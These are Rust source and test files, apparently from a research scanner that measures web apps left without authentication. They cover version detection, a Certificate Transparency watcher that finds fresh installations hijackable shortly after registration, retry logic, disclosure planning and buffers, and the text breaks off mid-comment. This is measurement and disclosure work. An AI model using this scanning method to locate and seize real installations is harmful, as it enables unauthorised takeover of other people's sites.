        for version in release_history(app) {
            let cfg = AppConfig::secure_for(app, &version);
            let (client, ep) = client_for(app, version, cfg);
            assert!(
                !detect_mav(&client, app, ep, Scheme::Http).await,
                "{app} {}: secured version falsely flagged",
                version.number()
            );
        }
    }
}

/// The prefilter signatures identify every version in both states — the
/// paper's "looking for strings and endpoints that appeared stable across
/// all the different versions".
#[tokio::test]
async fn signatures_identify_every_version() {
    let signatures = all_signatures();
    for app in AppId::in_scope() {
        for version in release_history(app) {
            for vulnerable in [false, true] {
                let cfg = if vulnerable {
                    AppConfig::vulnerable_for(app, &version)
                } else {
                    AppConfig::secure_for(app, &version)
                };
                let mut instance = build_instance(app, version, cfg);
                // Follow the app's own redirects like the prefilter does.
                let mut path = "/".to_string();
                let body = loop {
                    let out = instance.handle(
                        &nokeys_http::Request::get(path.clone()),
                        Ipv4Addr::LOCALHOST,
                    );
                    match out.response.location() {
                        Some(loc) => path = loc.to_string(),
                        None => break out.response.body_text(),
                    }
                };
                let candidates = match_candidates(&signatures, &PreparedBody::new(body));
                assert!(
                    candidates.contains(&app),
                    "{app} {} (vulnerable={vulnerable}) not identified",
                    version.number()
                );
            }
        }
    }
}
