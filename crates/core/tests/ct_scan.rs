//! CT-driven scanning over the simulated universe: the attacker who
//! watches Certificate Transparency catches fresh installations that the
//! IP-wide sweep can never see (§6.2 "Under counting").

use nokeys_netsim::vhost::VhostState;
use nokeys_netsim::{SimTime, SimTransport, Universe, UniverseConfig};
use nokeys_scanner::ct::{ct_scan, DomainTarget};
use nokeys_scanner::{Pipeline, PipelineConfig};
use std::sync::Arc;

/// Entries appearing during the study window — a CT watcher starting at
/// the scan epoch only sees new certificates.
fn targets(universe: &Universe) -> Vec<DomainTarget> {
    universe
        .ct_log()
        .into_iter()
        .filter(|e| e.logged_at >= SimTime::SCAN_START)
        .map(|e| DomainTarget {
            domain: e.domain,
            ip: e.ip,
            logged_at_secs: e.logged_at.as_secs(),
        })
        .collect()
}

#[tokio::test]
async fn ct_watcher_catches_fresh_installations() {
    let config = UniverseConfig::tiny(21);
    let transport = SimTransport::new(Arc::new(Universe::generate(config)));
    let client = nokeys_http::Client::new(transport.clone());
    let entries = targets(transport.universe());
    assert!(!entries.is_empty(), "tiny universe has virtual hosts");

    // Probe one hour after each CT entry appears.
    let t = transport.clone();
    let findings = ct_scan(&client, &entries, 3600, |secs| t.set_time(SimTime(secs))).await;

    // Ground truth: which vhosts were still pre-install one hour after
    // registration (and registered within the window)?
    let expected: Vec<String> = transport
        .universe()
        .vhosts()
        .filter(|(_, v)| {
            v.registered_at >= SimTime::SCAN_START
                && v.state_at(v.registered_at + nokeys_netsim::SimDuration::hours(1))
                    == VhostState::PreInstall
        })
        .map(|(_, v)| v.domain.clone())
        .collect();

    for domain in &expected {
        let f = findings
            .iter()
            .find(|f| &f.domain == domain)
            .unwrap_or_else(|| panic!("{domain} missing from CT scan"));
        assert!(
            f.vulnerable,
            "{domain} should be hijackable one hour after registration"
        );
        assert!(f.app.is_some());
    }
    // Established (installed) sites are identified but not vulnerable.
    let vulnerable: Vec<&str> = findings
        .iter()
        .filter(|f| f.vulnerable)
        .map(|f| f.domain.as_str())
        .collect();
    for d in &vulnerable {
        assert!(
            expected.iter().any(|e| e == d),
            "{d} flagged but not actually fresh"
        );
    }
}

#[tokio::test]
async fn ip_sweep_misses_everything_behind_shared_hosting() {
    let config = UniverseConfig::tiny(21);
    let transport = SimTransport::new(Arc::new(Universe::generate(config.clone())));
    let client = nokeys_http::Client::new(transport.clone());
    let report = Pipeline::new(PipelineConfig::builder(vec![config.space]).build())
        .run(&client)
        .await
        .expect("pipeline failed");

    // No finding of the IP sweep points at a shared-hosting machine: the
    // default vhost is a hosting placeholder.
    for f in &report.findings {
        let host = transport.universe().host(f.endpoint.ip).expect("host");
        assert!(
            host.vhosts.is_empty(),
            "IP sweep should not see name-based sites on {}",
            f.endpoint.ip
        );
    }
    // Yet hijackable fresh installations exist behind those IPs — the
    // paper's lower-bound claim made concrete.
    let fresh = transport
        .universe()
        .vhosts()
        .filter(|(_, v)| v.registered_at >= SimTime::SCAN_START)
        .count();
    assert!(
        fresh > 0,
        "fresh installations exist but the IP sweep cannot count them"
    );
}

#[tokio::test]
async fn vhost_dispatch_serves_the_named_site() {
    let config = UniverseConfig::tiny(21);
    let transport = SimTransport::new(Arc::new(Universe::generate(config)));
    let client = nokeys_http::Client::new(transport.clone());
    let (host, vhost) = {
        let u = transport.universe();
        let (h, v) = u.vhosts().next().expect("has vhosts");
        (h.ip, v.clone())
    };
    // Probe while installed (set time after installed_at).
    transport.set_time(vhost.installed_at + nokeys_netsim::SimDuration::hours(1));
    let resp = nokeys_scanner::ct::fetch_vhost(&client, host, &vhost.domain, "/")
        .await
        .expect("vhost answers");
    let body = resp.body_text();
    // The named site is a CMS, not the hosting placeholder.
    assert!(
        !body.contains("ACME Widgets"),
        "placeholder served instead of vhost: {body}"
    );
    // Without the Host header, the placeholder is served.
    let plain = client
        .get_path(
            nokeys_http::Endpoint::new(host, 80),
            nokeys_http::Scheme::Http,
            "/",
        )
        .await
        .expect("default answers");
    assert!(plain.response.body_text().contains("ACME Widgets"));
}
