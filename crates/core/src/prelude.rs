//! One-stop import for downstream users of the scanner.
//!
//! ```
//! use nokeys_scanner::prelude::*;
//! ```
//!
//! Re-exports the user-facing surface: pipeline configuration and
//! execution, reports and telemetry, checkpointing, pacing, and the
//! [`jobs`](crate::jobs) engine with its spec/handle/event types.
//! Internal machinery (prefilter internals, shard segments, signature
//! tables) stays behind its modules.

pub use crate::checkpoint::{CheckpointError, ConfigFingerprint, ScanCheckpoint};
pub use crate::jobs::process::WorkerSpec;
pub use crate::jobs::wire::{Command, Reply, WorkerCommand, WorkerReply};
pub use crate::jobs::{
    CheckpointPolicy, EngineConfig, JobEngine, JobError, JobEvent, JobHandle, JobId, JobKind,
    JobOutcome, JobResync, JobSpec, JobState, JobStatus, ObserveSpec, Recurrence, ScanSpec,
    TenantConfig, WorkerLaunch,
};
pub use crate::observer::{
    observe, observe_incremental, observe_instrumented, LongevityStudy, ObserverConfig,
    RescanDelta,
};
pub use crate::pipeline::{Pipeline, PipelineConfig, PipelineConfigBuilder, PipelineError};
pub use crate::portscan::{Cidr, PortScanConfig};
pub use crate::rate::SharedPacer;
pub use crate::report::{FingerprintMethod, HostFinding, ScanReport};
pub use crate::retry::RetryPolicy;
pub use crate::telemetry::{Telemetry, TelemetrySnapshot};
