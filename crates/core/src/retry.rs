//! Seeded retry/backoff for transient network faults.
//!
//! The paper's methodology tolerates transient loss — masscan SYN
//! retransmits in stage I, rescans in §3.5 — and this module is the
//! pipeline's equivalent: a [`RetryPolicy`] describing how many
//! attempts an operation gets and how it backs off, and a
//! [`RetryTransport`] wrapper that applies the policy at the transport
//! layer. Stage-I probes retry on [`ProbeOutcome::Filtered`] (an
//! unanswered SYN may be loss; an RST is a definite answer), connects
//! retry on transient errors ([`nokeys_http::Error::is_transient`]), so
//! stage II prefilter fetches, stage III plugin verification and the
//! fingerprinter all inherit retries from one choke point. The
//! prefilter additionally retries whole fetches through
//! [`RetryPolicy::run`], which recovers connections that die
//! mid-response.
//!
//! Backoff is deterministic: delays are *virtual* work units recorded
//! on a telemetry timer (`retry.<lane>.backoff`), with jitter drawn
//! from a splitmix64 hash over `(seed, endpoint, attempt)`. No
//! wall-clock sleep happens unless [`RetryPolicy::real_unit`] is
//! non-zero, so simulated scans stay fast and byte-identical at any
//! parallelism; the real-socket CLI maps units to milliseconds.

use crate::telemetry::{Counter, Telemetry, Timer};
use nokeys_http::ip::Cidr;
use nokeys_http::{BlockSweepResult, Endpoint, ProbeOutcome, Scheme, Transport};
use std::future::Future;
use std::time::Duration;

/// Retry/backoff configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct RetryPolicy {
    /// Total attempts per operation (1 = no retries).
    pub max_attempts: u32,
    /// Backoff before the first retry, in virtual units.
    pub base_units: u64,
    /// Ceiling for the exponential backoff, in virtual units.
    pub cap_units: u64,
    /// Maximum deterministic jitter added to each backoff, in virtual
    /// units.
    pub jitter_units: u64,
    /// Seed of the jitter stream.
    pub seed: u64,
    /// Wall-clock duration of one virtual unit. `Duration::ZERO` (the
    /// default) records backoff without sleeping — correct for the
    /// simulator, where pacing real time would only slow tests down.
    pub real_unit: Duration,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy {
            max_attempts: 3,
            base_units: 100,
            cap_units: 1_600,
            jitter_units: 50,
            seed: 0x7265_7472_79, // "retry"
            real_unit: Duration::ZERO,
        }
    }
}

impl RetryPolicy {
    /// Single-attempt policy: no retries, no backoff.
    pub fn disabled() -> Self {
        Self::with_attempts(1)
    }

    /// Default policy with a different total attempt budget. `attempts`
    /// is clamped to at least 1 — one attempt always runs.
    pub fn with_attempts(attempts: u32) -> Self {
        RetryPolicy {
            max_attempts: attempts.max(1),
            ..Default::default()
        }
    }

    /// Whether the policy ever retries.
    pub fn enabled(&self) -> bool {
        self.attempts() > 1
    }

    /// Total attempts, never below 1 (guards direct field mutation).
    pub fn attempts(&self) -> u32 {
        self.max_attempts.max(1)
    }

    /// Backoff after failed attempt number `attempt` (0-based): capped
    /// exponential growth plus deterministic per-endpoint jitter.
    pub fn backoff_units(&self, ep: Endpoint, attempt: u32) -> u64 {
        let exp = self
            .base_units
            .saturating_mul(1u64 << attempt.min(16))
            .min(self.cap_units.max(self.base_units));
        exp + self.jitter(ep, attempt)
    }

    /// Deterministic jitter in `0..=jitter_units`: a splitmix64
    /// finalizer over `(seed, endpoint, attempt)`, so concurrent lanes
    /// desynchronize without a shared random source.
    fn jitter(&self, ep: Endpoint, attempt: u32) -> u64 {
        if self.jitter_units == 0 {
            return 0;
        }
        let mut x = self.seed
            ^ (u64::from(u32::from(ep.ip)) << 16)
            ^ u64::from(ep.port)
            ^ (u64::from(attempt) << 48);
        x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
        x ^= x >> 30;
        x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
        x ^= x >> 27;
        x = x.wrapping_mul(0x94d0_49bb_1331_11eb);
        x ^= x >> 31;
        x % (self.jitter_units + 1)
    }

    /// Record `units` of backoff on `metrics` and, when `real_unit` is
    /// non-zero, sleep the corresponding wall-clock time.
    async fn pause(&self, metrics: &RetryMetrics, units: u64) {
        metrics.backoff.record(units);
        if self.real_unit > Duration::ZERO {
            let factor = units.min(u64::from(u32::MAX)) as u32;
            tokio::time::sleep(self.real_unit.saturating_mul(factor)).await;
        }
    }

    /// Run `op` under this policy, retrying transient errors with
    /// backoff and accounting on `metrics`. Terminal errors return
    /// immediately; a transient error on the final attempt counts as
    /// exhausted.
    pub async fn run<T, F, Fut>(
        &self,
        ep: Endpoint,
        metrics: &RetryMetrics,
        mut op: F,
    ) -> nokeys_http::Result<T>
    where
        F: FnMut() -> Fut,
        Fut: Future<Output = nokeys_http::Result<T>>,
    {
        let max = self.attempts();
        for attempt in 0..max {
            match op().await {
                Ok(value) => {
                    if attempt > 0 {
                        metrics.recovered.incr();
                    }
                    return Ok(value);
                }
                Err(e) if e.is_transient() && attempt + 1 < max => {
                    metrics.retries.incr();
                    self.pause(metrics, self.backoff_units(ep, attempt)).await;
                }
                Err(e) => {
                    if e.is_transient() {
                        metrics.exhausted.incr();
                    }
                    return Err(e);
                }
            }
        }
        unreachable!("retry loop returns within its attempt budget")
    }
}

/// Cached telemetry handles for one retry lane (`probe`, `connect`,
/// `fetch`).
#[derive(Debug, Clone)]
pub struct RetryMetrics {
    /// `retry.<lane>.retries` — retries performed (a second or later
    /// attempt was started).
    pub retries: Counter,
    /// `retry.<lane>.recovered` — operations that failed at least once
    /// and then succeeded within the budget.
    pub recovered: Counter,
    /// `retry.<lane>.exhausted` — transient failures with no attempt
    /// budget left.
    pub exhausted: Counter,
    /// `retry.<lane>.backoff` — virtual backoff units recorded.
    pub backoff: Timer,
}

impl RetryMetrics {
    pub fn new(telemetry: &Telemetry, lane: &str) -> Self {
        RetryMetrics {
            retries: telemetry.counter(&format!("retry.{lane}.retries")),
            recovered: telemetry.counter(&format!("retry.{lane}.recovered")),
            exhausted: telemetry.counter(&format!("retry.{lane}.exhausted")),
            backoff: telemetry.timer(&format!("retry.{lane}.backoff")),
        }
    }
}

/// Transport wrapper applying a [`RetryPolicy`] to every probe and
/// connect. [`Pipeline::run`](crate::pipeline::Pipeline::run) wraps the
/// caller's transport in one of these, which is how all three stages
/// (and the fingerprinter) retry without stage-specific plumbing.
#[derive(Debug, Clone)]
pub struct RetryTransport<T> {
    inner: T,
    policy: RetryPolicy,
    probe: RetryMetrics,
    connect: RetryMetrics,
}

impl<T> RetryTransport<T> {
    pub fn new(inner: T, policy: RetryPolicy, telemetry: &Telemetry) -> Self {
        RetryTransport {
            inner,
            policy,
            probe: RetryMetrics::new(telemetry, "probe"),
            connect: RetryMetrics::new(telemetry, "connect"),
        }
    }

    /// The wrapped transport.
    pub fn inner(&self) -> &T {
        &self.inner
    }

    /// The policy in force.
    pub fn policy(&self) -> &RetryPolicy {
        &self.policy
    }
}

impl<T: Transport> RetryTransport<T> {
    /// Continue a probe's retry schedule given the outcome of its first
    /// attempt. An unanswered SYN may be transient loss: retransmit,
    /// masscan-style. `Closed` is terminal — an RST is a definite
    /// answer. Shared by `probe` and `sweep_block` so a probe first
    /// answered inside a block sweep retries (and meters) exactly like
    /// a standalone one.
    async fn finish_probe_retries(&self, ep: Endpoint, mut outcome: ProbeOutcome) -> ProbeOutcome {
        let max = self.policy.attempts();
        let mut attempt = 0;
        while outcome == ProbeOutcome::Filtered && attempt + 1 < max {
            self.probe.retries.incr();
            self.policy
                .pause(&self.probe, self.policy.backoff_units(ep, attempt))
                .await;
            attempt += 1;
            outcome = self.inner.probe(ep).await;
        }
        if attempt > 0 {
            if outcome == ProbeOutcome::Filtered {
                self.probe.exhausted.incr();
            } else {
                self.probe.recovered.incr();
            }
        }
        outcome
    }
}

impl<T: Transport> Transport for RetryTransport<T> {
    type Conn = T::Conn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        let first = self.inner.probe(ep).await;
        self.finish_probe_retries(ep, first).await
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        let mut result = self.inner.sweep_block(block, ports).await;
        // Only probes whose first attempt read `Filtered` owe retries:
        // `Open` succeeded and `Closed` is terminal, so the probes a
        // sparse sweep answered in bulk (all `Closed`) have no retry
        // draws to skip, and the sweep stays sparse.
        for (ep, outcome) in &mut result.probed {
            if *outcome == ProbeOutcome::Filtered {
                *outcome = self.finish_probe_retries(*ep, ProbeOutcome::Filtered).await;
            }
        }
        result
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> nokeys_http::Result<T::Conn> {
        self.connect_with_retries(ep, scheme, false).await
    }

    async fn connect_fresh(&self, ep: Endpoint, scheme: Scheme) -> nokeys_http::Result<T::Conn> {
        // The client's stale-connection retry deserves the same
        // transient-error budget as a first connect, but must keep
        // bypassing any pool below this wrapper.
        self.connect_with_retries(ep, scheme, true).await
    }

    fn supports_reuse(&self) -> bool {
        self.inner.supports_reuse()
    }
}

impl<T: Transport> RetryTransport<T> {
    async fn connect_with_retries(
        &self,
        ep: Endpoint,
        scheme: Scheme,
        fresh: bool,
    ) -> nokeys_http::Result<T::Conn> {
        let max = self.policy.attempts();
        for attempt in 0..max {
            let result = if fresh {
                self.inner.connect_fresh(ep, scheme).await
            } else {
                self.inner.connect(ep, scheme).await
            };
            match result {
                Ok(conn) => {
                    if attempt > 0 {
                        self.connect.recovered.incr();
                    }
                    return Ok(conn);
                }
                Err(e) if e.is_transient() && attempt + 1 < max => {
                    self.connect.retries.incr();
                    self.policy
                        .pause(&self.connect, self.policy.backoff_units(ep, attempt))
                        .await;
                }
                Err(e) => {
                    if e.is_transient() {
                        self.connect.exhausted.incr();
                    }
                    return Err(e);
                }
            }
        }
        unreachable!("connect retry loop returns within its attempt budget")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::memory::HandlerTransport;
    use nokeys_http::Error;
    use std::net::Ipv4Addr;
    use std::sync::atomic::{AtomicU32, Ordering};
    use std::sync::Arc;

    fn ep() -> Endpoint {
        Endpoint::new(Ipv4Addr::new(192, 0, 2, 1), 80)
    }

    /// Fails the first `failures` operations with a scripted error, then
    /// delegates to an inner transport.
    #[derive(Clone)]
    struct Flaky<T> {
        inner: T,
        failures: Arc<AtomicU32>,
        err: Error,
    }

    impl<T> Flaky<T> {
        fn new(inner: T, failures: u32, err: Error) -> Self {
            Flaky {
                inner,
                failures: Arc::new(AtomicU32::new(failures)),
                err,
            }
        }

        fn take_failure(&self) -> bool {
            self.failures
                .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |n| n.checked_sub(1))
                .is_ok()
        }
    }

    impl<T: Transport> Transport for Flaky<T> {
        type Conn = T::Conn;

        async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
            if self.take_failure() {
                return ProbeOutcome::Filtered;
            }
            self.inner.probe(ep).await
        }

        async fn connect(&self, ep: Endpoint, scheme: Scheme) -> nokeys_http::Result<T::Conn> {
            if self.take_failure() {
                return Err(self.err.clone());
            }
            self.inner.connect(ep, scheme).await
        }
    }

    #[test]
    fn backoff_grows_exponentially_and_caps() {
        let policy = RetryPolicy {
            jitter_units: 0,
            ..RetryPolicy::default()
        };
        assert_eq!(policy.backoff_units(ep(), 0), 100);
        assert_eq!(policy.backoff_units(ep(), 1), 200);
        assert_eq!(policy.backoff_units(ep(), 2), 400);
        assert_eq!(policy.backoff_units(ep(), 10), 1_600, "capped");
        assert_eq!(policy.backoff_units(ep(), 63), 1_600, "shift stays sane");
    }

    #[test]
    fn jitter_is_deterministic_and_bounded() {
        let policy = RetryPolicy::default();
        let a = policy.backoff_units(ep(), 0);
        assert_eq!(a, policy.backoff_units(ep(), 0), "same key, same jitter");
        assert!((100..=150).contains(&a), "{a}");
        let other = Endpoint::new(Ipv4Addr::new(192, 0, 2, 2), 80);
        assert!((100..=150).contains(&policy.backoff_units(other, 0)));
    }

    #[test]
    fn attempts_never_drop_below_one() {
        assert_eq!(RetryPolicy::with_attempts(0).attempts(), 1);
        assert!(!RetryPolicy::disabled().enabled());
        assert!(RetryPolicy::default().enabled());
    }

    #[tokio::test]
    async fn probe_retries_through_transient_filtering() {
        let telemetry = Telemetry::new();
        let flaky = Flaky::new(HandlerTransport::new(), 2, Error::Timeout);
        let t = RetryTransport::new(flaky, RetryPolicy::with_attempts(3), &telemetry);
        // HandlerTransport reports unmounted endpoints as Closed; the
        // two scripted Filtered results are retried away first.
        assert_eq!(t.probe(ep()).await, ProbeOutcome::Closed);
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.probe.retries"), 2);
        assert_eq!(snap.counter("retry.probe.recovered"), 1);
        assert_eq!(snap.counter("retry.probe.exhausted"), 0);
        assert!(snap.timings["retry.probe.backoff"].units > 0);
    }

    #[tokio::test]
    async fn probe_budget_exhausts_on_persistent_filtering() {
        let telemetry = Telemetry::new();
        let flaky = Flaky::new(HandlerTransport::new(), u32::MAX, Error::Timeout);
        let t = RetryTransport::new(flaky, RetryPolicy::with_attempts(3), &telemetry);
        assert_eq!(t.probe(ep()).await, ProbeOutcome::Filtered);
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.probe.retries"), 2);
        assert_eq!(snap.counter("retry.probe.exhausted"), 1);
    }

    #[tokio::test]
    async fn connect_does_not_retry_terminal_errors() {
        let telemetry = Telemetry::new();
        let flaky = Flaky::new(HandlerTransport::new(), 5, Error::Connect("refused".into()));
        let t = RetryTransport::new(flaky, RetryPolicy::with_attempts(3), &telemetry);
        assert!(t.connect(ep(), Scheme::Http).await.is_err());
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.connect.retries"), 0);
        assert_eq!(snap.counter("retry.connect.exhausted"), 0);
    }

    #[tokio::test]
    async fn connect_exhausts_after_persistent_timeouts() {
        let telemetry = Telemetry::new();
        let flaky = Flaky::new(HandlerTransport::new(), 5, Error::Timeout);
        let t = RetryTransport::new(flaky, RetryPolicy::with_attempts(3), &telemetry);
        assert!(matches!(
            t.connect(ep(), Scheme::Http).await,
            Err(Error::Timeout)
        ));
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.connect.retries"), 2);
        assert_eq!(snap.counter("retry.connect.exhausted"), 1);
        assert_eq!(snap.counter("retry.connect.recovered"), 0);
    }

    #[tokio::test]
    async fn run_recovers_transient_failures() {
        let telemetry = Telemetry::new();
        let metrics = RetryMetrics::new(&telemetry, "fetch");
        let policy = RetryPolicy::with_attempts(3);
        let calls = AtomicU32::new(0);
        let result = policy
            .run(ep(), &metrics, || {
                let n = calls.fetch_add(1, Ordering::Relaxed);
                async move {
                    if n < 2 {
                        Err(Error::UnexpectedEof)
                    } else {
                        Ok(n)
                    }
                }
            })
            .await;
        assert_eq!(result, Ok(2));
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.fetch.retries"), 2);
        assert_eq!(snap.counter("retry.fetch.recovered"), 1);
    }

    #[tokio::test]
    async fn run_with_single_attempt_counts_exhaustion() {
        let telemetry = Telemetry::new();
        let metrics = RetryMetrics::new(&telemetry, "fetch");
        let result: nokeys_http::Result<()> = RetryPolicy::disabled()
            .run(ep(), &metrics, || async { Err(Error::Timeout) })
            .await;
        assert_eq!(result, Err(Error::Timeout));
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("retry.fetch.retries"), 0);
        assert_eq!(snap.counter("retry.fetch.exhausted"), 1);
    }
}
