//! Responsible-disclosure planning (Section 3.2, "Responsible
//! disclosure").
//!
//! "Reporting vulnerabilities discovered during an IP scan is a
//! non-trivial problem, as no direct connection to a domain name and thus
//! email address exists." The paper's routing: (1) assets inside large
//! cloud/hosting providers are reported to the provider in bulk; (2) for
//! the rest, connect via HTTPS and mine the certificate for a contactable
//! domain (`security@domain`); (3) anything else cannot be notified.

use crate::report::HostFinding;
use nokeys_http::transport::Connection;
use nokeys_http::{Scheme, Transport};
use serde::Serialize;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// How one vulnerable host will be notified.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub enum Contact {
    /// Reported to the hosting/cloud provider with the affected asset.
    Provider(String),
    /// Direct mail to `security@<domain>` from the certificate subject.
    SecurityAt(String),
    /// No contact path found.
    Unreachable,
}

/// The complete notification plan.
#[derive(Debug, Default, Serialize)]
pub struct ContactPlan {
    /// Provider name → affected addresses (bulk reports).
    pub by_provider: BTreeMap<String, Vec<Ipv4Addr>>,
    /// Direct `security@domain` notifications.
    pub by_domain: Vec<(Ipv4Addr, String)>,
    /// Hosts with no contact path.
    pub unreachable: Vec<Ipv4Addr>,
}

impl ContactPlan {
    /// Number of hosts with *some* notification path.
    pub fn notifiable(&self) -> usize {
        self.by_provider.values().map(Vec::len).sum::<usize>() + self.by_domain.len()
    }

    /// Contact decided for `ip`, if it is part of the plan.
    pub fn contact_of(&self, ip: Ipv4Addr) -> Option<Contact> {
        for (provider, ips) in &self.by_provider {
            if ips.contains(&ip) {
                return Some(Contact::Provider(provider.clone()));
            }
        }
        if let Some((_, domain)) = self.by_domain.iter().find(|(i, _)| *i == ip) {
            return Some(Contact::SecurityAt(domain.clone()));
        }
        self.unreachable
            .contains(&ip)
            .then_some(Contact::Unreachable)
    }
}

/// Plan notifications for the vulnerable findings.
///
/// `provider_of` is the IP-metadata lookup: `Some(provider_name)` when
/// the address belongs to a dedicated hosting/cloud provider.
pub async fn plan_notifications<T, F>(
    transport: &T,
    findings: &[HostFinding],
    provider_of: F,
) -> ContactPlan
where
    T: Transport,
    F: Fn(Ipv4Addr) -> Option<String>,
{
    let mut plan = ContactPlan::default();
    for finding in findings.iter().filter(|f| f.vulnerable) {
        let ip = finding.endpoint.ip;
        if let Some(provider) = provider_of(ip) {
            plan.by_provider.entry(provider).or_default().push(ip);
            continue;
        }
        // Inspect the certificate: try the finding's own port first (it
        // may be HTTPS), then 443.
        let mut domain = None;
        for port in [finding.endpoint.port, 443] {
            let ep = nokeys_http::Endpoint::new(ip, port);
            if let Ok(conn) = transport.connect(ep, Scheme::Https).await {
                if let Some(cert) = conn.certificate() {
                    if let Some(subject) = cert.subject {
                        domain = Some(subject);
                        break;
                    }
                }
            }
        }
        match domain {
            Some(d) => plan.by_domain.push((ip, d)),
            None => plan.unreachable.push(ip),
        }
    }
    plan
}

/// Render the plan as notification-report text.
pub fn render(plan: &ContactPlan) -> String {
    let mut out = String::from("== Responsible-disclosure plan ==\n");
    for (provider, ips) in &plan.by_provider {
        out.push_str(&format!(
            "bulk report to {provider}: {} assets\n",
            ips.len()
        ));
    }
    out.push_str(&format!(
        "direct security@ notifications: {}\n",
        plan.by_domain.len()
    ));
    out.push_str(&format!("no contact path: {}\n", plan.unreachable.len()));
    out.push_str(&format!(
        "notifiable: {} of {}\n",
        plan.notifiable(),
        plan.notifiable() + plan.unreachable.len()
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::Endpoint;

    fn finding(ip: [u8; 4], vulnerable: bool) -> HostFinding {
        HostFinding {
            endpoint: Endpoint::new(Ipv4Addr::from(ip), 80),
            scheme: Scheme::Http,
            app: nokeys_apps::AppId::Docker,
            vulnerable,
            version: None,
            fingerprint_method: None,
        }
    }

    #[tokio::test]
    async fn providers_take_precedence_and_secure_hosts_are_skipped() {
        let transport = nokeys_http::memory::HandlerTransport::new();
        let findings = vec![finding([10, 0, 0, 1], true), finding([10, 0, 0, 2], false)];
        let plan =
            plan_notifications(&transport, &findings, |_| Some("ExampleCloud".to_string())).await;
        assert_eq!(
            plan.by_provider["ExampleCloud"],
            vec![Ipv4Addr::new(10, 0, 0, 1)]
        );
        assert_eq!(plan.notifiable(), 1);
        assert_eq!(
            plan.contact_of(Ipv4Addr::new(10, 0, 0, 1)),
            Some(Contact::Provider("ExampleCloud".to_string()))
        );
        assert_eq!(plan.contact_of(Ipv4Addr::new(10, 0, 0, 2)), None);
    }

    #[tokio::test]
    async fn hosts_without_provider_or_cert_are_unreachable() {
        // HandlerTransport has no mounted endpoints: HTTPS connects fail.
        let transport = nokeys_http::memory::HandlerTransport::new();
        let findings = vec![finding([10, 0, 0, 3], true)];
        let plan = plan_notifications(&transport, &findings, |_| None).await;
        assert_eq!(plan.unreachable, vec![Ipv4Addr::new(10, 0, 0, 3)]);
        assert_eq!(plan.notifiable(), 0);
        let text = render(&plan);
        assert!(text.contains("no contact path: 1"));
    }
}
