//! Per-worker scratch arena for the stage II/III hot path.
//!
//! Every probe used to allocate fresh lowered/squashed body views, a
//! fresh per-signature match vector, and (during fingerprinting) a
//! fresh crawl-observation list. The worker loops are persistent
//! (cursor-fed since PR 6), so those buffers are trivially reusable:
//! a [`Scratch`] is owned by exactly one worker, lives for the whole
//! scan, and every probe borrows its buffers instead of allocating.
//!
//! # Ownership rules
//!
//! - A `Scratch` is **never shared**: one per worker task (or one per
//!   sequential loop). Nothing in it is `Sync`-guarded because nothing
//!   ever needs to be — the borrow checker enforces exclusivity.
//! - Buffer contents are **dead between probes**. Every entry point
//!   (`MultiPattern::matched_signatures_scratch`,
//!   `crawler::identify_scratch`) clears what it uses before filling
//!   it; no probe ever observes a previous probe's bytes.
//! - Capacity is **monotone**: buffers grow to the high-water mark of
//!   the stream and stay there. With the default [`Scratch::RESERVE`]
//!   pre-size, bodies at or under 16 KiB (the stage-II read cap is in
//!   the same regime) never reallocate at all.
//!
//! # Why determinism survives reuse
//!
//! Buffer *capacity* is scheduling-dependent (which worker saw the
//! biggest body first), so nothing observable may depend on it. The
//! `alloc.*` telemetry family therefore never reports live allocator
//! state: every counter is a pure function of the deterministic probe
//! stream (body content and length classified against the fixed
//! `RESERVE` constant), so fixed-seed runs stay byte-identical at any
//! parallelism, shard count, or scratch on/off setting.

/// Reusable per-worker buffers for view materialization, multipattern
/// matching, and fingerprint crawling.
#[derive(Debug)]
pub struct Scratch {
    /// ASCII-lowercased body view (`lower_into`).
    lower: String,
    /// Whitespace-stripped body view (`squash_into`).
    squashed: String,
    /// Per-signature match bits for the multipattern pass.
    matched: Vec<bool>,
    /// Crawl observations `(path, body hash)` for KB fingerprinting.
    crawl: Vec<(&'static str, u64)>,
}

impl Scratch {
    /// Pre-reserved capacity for each view buffer, and the fixed
    /// size-class boundary the `alloc.scratch.{hit,grow}` counters
    /// classify against. A materialized view longer than this *would*
    /// force a reallocation in a freshly-reserved arena, so the
    /// classified grow count is a deterministic upper bound on real
    /// steady-state reallocations: classified grows == 0 proves the
    /// arena never grew.
    pub const RESERVE: usize = 16 * 1024;

    /// A scratch arena with both view buffers pre-sized to
    /// [`RESERVE`](Self::RESERVE).
    pub fn new() -> Self {
        Scratch {
            lower: String::with_capacity(Self::RESERVE),
            squashed: String::with_capacity(Self::RESERVE),
            matched: Vec::with_capacity(128),
            crawl: Vec::with_capacity(16),
        }
    }

    /// Split borrow for the multipattern pass: match bits plus the two
    /// view buffers, all disjoint.
    pub(crate) fn matcher_parts(&mut self) -> (&mut Vec<bool>, &mut String, &mut String) {
        (&mut self.matched, &mut self.lower, &mut self.squashed)
    }

    /// The per-signature match bits left by the most recent
    /// [`MultiPattern::matched_signatures_scratch`](crate::MultiPattern::matched_signatures_scratch)
    /// call.
    pub fn matched(&self) -> &[bool] {
        &self.matched
    }

    /// The crawl-observation buffer for KB fingerprinting.
    pub(crate) fn crawl_buf(&mut self) -> &mut Vec<(&'static str, u64)> {
        &mut self.crawl
    }
}

impl Default for Scratch {
    fn default() -> Self {
        Self::new()
    }
}

/// Fill `out` with the ASCII-lowercased copy of `raw`.
///
